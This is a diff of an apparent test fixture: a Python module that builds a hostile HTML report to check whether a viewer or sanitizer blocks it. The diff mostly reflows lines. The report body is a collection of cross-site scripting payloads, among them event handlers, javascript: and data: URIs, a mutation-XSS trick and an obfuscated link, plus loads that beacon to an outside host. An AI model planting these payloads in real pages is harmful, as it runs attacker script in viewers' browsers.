@@ -1,4 +1,4 @@
-"""A report that attacks whoever looks at it: scripts, handlers, links, styles, outside images; and what shows its success.
+"""A report that attacks whoever looks at it: by scripts, handlers, links, styles, outside images.
 
 Its figures are those of an ordinary report. Each attack, if it runs, sets ``hostile`` on its window and asks `OUTSIDE`
 for an address that names it.
@@ -50,17 +50,20 @@ BODY: Final = f"""
 <svg onload="{_run("svg")}"><image xlink:href="{OUTSIDE}/svg.png" href="{OUTSIDE}/svg.png"></image>
   <script>{_run("svg-script")}</script><use href="{OUTSIDE}/use.svg#x"></use>
   <animate onbegin="{_run("animate")}" attributeName="x" dur="1s"></animate></svg>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_run("mxss")}&gt;"></table></math>
+<math><mtext><table><mglyph><style><!--</style>
+<img title="--&gt;&lt;img src=1 onerror={_run("mxss")}&gt;"></table></math>
 <noscript><p title="</noscript><img src=x onerror={_run("noscript")}>"></noscript>
 <iframe srcdoc="<script>{_run("srcdoc")}</script>"></iframe><iframe src="{OUTSIDE}/frame"></iframe>
 <iframe src="javascript:{_run("frame")}"></iframe><frameset><frame src="{OUTSIDE}/frameset"></frameset>
 <object data="{OUTSIDE}/object"></object><embed src="{OUTSIDE}/embed"><applet code="{OUTSIDE}/applet"></applet>
 <video src="{OUTSIDE}/video" poster="{OUTSIDE}/poster" autoplay onerror="{_run("video")}"></video>
-<audio src="{OUTSIDE}/audio" autoplay></audio><input type="image" src="{OUTSIDE}/input" autofocus onfocus="{_run("focus")}">
+<audio src="{OUTSIDE}/audio" autoplay></audio>
+<input type="image" src="{OUTSIDE}/input" autofocus onfocus="{_run("focus")}">
 <form action="{OUTSIDE}/form" id="hostile-form"><button formaction="javascript:{_run("button")}">提交</button></form>
 <details open ontoggle="{_run("toggle")}"><summary>x</summary></details>
 <marquee onstart="{_run("marquee")}">x</marquee>
-<table background="{OUTSIDE}/table.png"><tr><td background="{OUTSIDE}/cell.png" onclick="{_run("click")}">x</td></tr></table>
+<table background="{OUTSIDE}/table.png"><tr><td background="{OUTSIDE}/cell.png" onclick="{_run("click")}">x</td></tr>
+</table>
 <template><script>{_run("template")}</script></template><xmp><script>{_run("xmp")}</script></xmp>
 <a href="data:text/html,<script>{_run("data")}</script>">x</a><a href=" java&#10;script:{_run("broken")}">x</a>
 """
